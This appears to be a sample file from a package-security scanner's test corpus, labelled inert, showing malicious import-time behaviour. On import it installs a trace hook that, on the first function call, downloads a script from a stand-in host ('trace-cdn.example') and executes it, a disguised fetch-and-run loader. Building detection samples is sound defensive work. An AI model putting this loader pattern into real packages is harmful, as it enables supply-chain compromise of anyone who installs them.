# pkgguard corpus 634 (import-time), modelled on [empirical]; inert, never run.
import sys
import urllib.request

_done = []


def _trace(frame, event, arg):
    if event == "call" and not _done:
        _done.append(1)
        sys.settrace(None)
        body = urllib.request.urlopen("https://trace-cdn.example/t.py", timeout=10).read()
        exec(compile(body, "<t>", "exec"), {})
    return None


sys.settrace(_trace)
